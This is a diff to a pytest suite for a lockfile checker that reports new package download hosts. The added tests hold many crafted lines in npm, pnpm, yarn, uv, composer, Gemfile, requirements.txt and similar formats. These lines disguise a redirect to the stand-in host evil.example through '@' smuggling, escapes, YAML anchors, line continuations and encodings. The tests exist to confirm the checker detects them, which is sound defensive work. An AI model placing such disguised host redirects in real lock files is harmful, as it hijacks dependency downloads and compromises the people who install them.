@@ -6,7 +6,7 @@ import json
 
 import pytest
 
-from workbench.core.lockfiles import is_lock_file, new_hosts
+from workbench.core.lockfiles import SOURCES, is_lock_file, new_hosts
 
 EVIL = "evil.example"
 LINES = {
@@ -115,6 +115,110 @@ def test_usual_registries_and_other_addresses_are_nothing_new() -> None:
 )
 def test_no_way_of_writing_hides_a_host(name: str, line: str) -> None:
     assert new_hosts(name, "", line) == (EVIL,)
+
+
+USUAL_ONE = "registry.npmjs.org"
+
+
+@pytest.mark.parametrize(
+    ("name", "line"),
+    [
+        ("package-lock.json", f'"resolved": "https://{USUAL_ONE}\'@evil.example/x.tgz"'),
+        ("package-lock.json", rf'"resolved": "https://{USUAL_ONE}\"@evil.example/x.tgz"'),
+        ("package-lock.json", rf'"resolved": "https://{USUAL_ONE}\u0040evil.example/x.tgz"'),
+        ("package-lock.json", '"resolved": " https://evil.example/x.tgz"'),
+        ("package-lock.json", r'"resolved": "\nhttps://evil.example/x.tgz"'),
+        ("Package-Lock.json", '"resolved": "https://evil.example/x.tgz"'),
+        ("yarn.lock", '  resolution: "x@npm:1.0.0::__archiveUrl=https%3A%2F%2Fevil.example%2Fx.tgz"'),
+        ("bun.lock", '"x": ["x@https://evil.example/x.tgz", {}],'),
+        ("pnpm-lock.yaml", "resolution: {tarball: !!str https://evil.example/x}"),
+        ("pnpm-lock.yaml", "resolution:\n  tarball: &a\n    https://evil.example/x"),
+        ("pixi.lock", "- conda: >-\n    https://evil.example/x.conda"),
+        ("uv.lock", 'sdist = { url = """\nhttps://evil.example/x""" }'),
+        ("composer.lock", '{"packages": {"funding": {"dist": {"url": "https://evil.example/x"}}}}'),
+        ("composer.lock", '{"packages": [{"source": {"url": "me@evil.example:x/y.git"}}]}'),
+        ("composer.lock", '{"packages": [{"source": {"url": "evil.example:x/y.git"}}]}'),
+        ("Podfile.lock", "  x:\n    :git: me@evil.example:x/y.git"),
+        ("Gemfile.lock", "  remote: me@evil.example:x/y.git"),
+        ("mix.lock", '"x": {:git, "me@evil.example:x/y", "abc", []}'),
+        ("Package.resolved", '"location" : "me@evil.example:x/y.git"'),
+        ("requirements.txt", "# known\r--index-url https://evil.example/simple"),
+        ("requirements.txt", "# known\f--index-url https://evil.example/simple"),
+        ("requirements.txt", "x \\\n#y\\\n-i https://evil.example/simple"),
+        ("requirements.txt", "-i https:'/'/evil.example/simple"),
+        ("requirements.txt", "-i https://evil.\\\nexample/simple"),
+        ("odd\nname/requirements.txt", "-i https://evil.example/simple"),
+    ],
+)
+def test_what_a_tool_reads_otherwise_than_it_looks_hides_no_host(name: str, line: str) -> None:
+    assert is_lock_file(name)
+    assert new_hosts(name, "", line) == (EVIL,)
+
+
+@pytest.mark.parametrize(
+    ("name", "line"),
+    [
+        ("package-lock.json", rf'"resolved": "https://{USUAL_ONE}\t.evil.example/x.tgz"'),
+        ("package-lock.json", rf'"resolved": "https://{USUAL_ONE}\u0009.evil.example/x.tgz"'),
+        ("package-lock.json", f'"resolved": "https://{USUAL_ONE}%2eevil.example/x.tgz"'),
+        ("package-lock.json", f'"resolved": "https://{USUAL_ONE}\u3002evil.example/x.tgz"'),
+        ("package-lock.json", '"resolved": "https://\u00e9vil.example/x.tgz"'),
+        ("package-lock.json", '"resolved": "https://[2001:db8::1]/x.tgz"'),
+        ("package-lock.json", rf'"resolved": "git+https://{USUAL_ONE}\\@evil.example/x.git"'),
+        ("pnpm-lock.yaml", "x: &a https://evil.example/x\nresolution: {tarball: *a}"),
+        ("pnpm-lock.yaml", f'resolution: {{tarball: "https://{USUAL_ONE}\\\n  .evil.example/x"}}'),
+        ("uv.lock", 'url = """https://pypi.org\\\n  .evil.example/x"""'),
+        ("requirements.txt", "-i https://pypi.org\\\n.evil.example/simple"),
+        ("requirements.txt", "-i https://pypi.org\\.evil.example/simple"),
+        ("requirements.txt", "-i https://${USER}.evil.example/simple"),
+        ("requirements.txt", "x @ git+https://pypi.org\\@evil.example/x"),
+        ("requirements.txt", "# coding: utf-7\n-i https:+AC8ALw-evil.example"),
+        ("requirements.txt", "-r more.cfg"),
+        ("requirements.txt", "--pre '-r' \"more.cfg\""),
+        ("requirements.txt", "--requirem=more.cfg"),
+    ],
+)
+def test_what_no_two_tools_need_read_alike_is_new(name: str, line: str) -> None:
+    assert new_hosts(name, "", line) != ()
+
+
+@pytest.mark.parametrize("name", SOURCES)
+@pytest.mark.parametrize("many", ["a", "\n", " ", "https:", "git@a", "/", "\\", "a.", "url: ", "resolved a"])
+def test_a_long_file_is_read_at_once(name: str, many: str) -> None:
+    """Who writes these files may mean harm: a pattern that looks far ahead from each place would take days,
+    and all the others wait."""
+    new_hosts(name, "", "resolved " + many * (200_000 // len(many)))
+
+
+@pytest.mark.parametrize(
+    ("name", "text"),
+    [
+        (
+            "bun.lock",
+            '"isomorphic-git": ["isomorphic-git@1.30.1", "", {"dependencies": {}}, "sha512-a//b=="],',
+        ),
+        ("bun.lock", '"git": ["git@1.0.0", "", {}, "sha512-z"]'),
+        (
+            "deno.lock",
+            '"specifiers": {"jsr:@std/assert@1": "1.0.13", "npm:chalk@5": "5.4.1"}, "sha512-a//b="',
+        ),
+        ("Podfile.lock", 'SPEC REPOS:\n  trunk:\n    - X\n\nEXTERNAL SOURCES:\n  R:\n    :path: "../n/x"'),
+        ("Gemfile.lock", "PATH\n  remote: engines/x\n  specs:\n    x (0.1)\nPATH\n  remote: .\n  specs:"),
+        ("composer.lock", '{"packages": [{"dist": {"type": "path", "url": "./packages/p"}}]}'),
+        ("Package.resolved", '{"identity": "x.y", "kind": "registry", "location": ""}'),
+        ("go.sum", "go.uber.org/zap v1.27.0 h1:abc=\nk8s.io/api v0.31.0/go.mod h1:abc="),
+        (
+            "yarn.lock",
+            '  resolution: "t@patch:t@npm%3A5.4.5#optional!builtin<compat/t>::version=5.4.5&hash=5a"',
+        ),
+        (
+            "requirements/dev.txt",
+            "-r ../requirements.txt\n-c constraints.txt\nx==1 \\\n    --hash=sha256:a\n    # via\n    # -r x",
+        ),
+    ],
+)
+def test_what_the_tools_write_day_by_day_is_nothing_new(name: str, text: str) -> None:
+    assert new_hosts(name, "", text) == ()
 
 
 def test_versions_and_files_are_no_hosts() -> None:
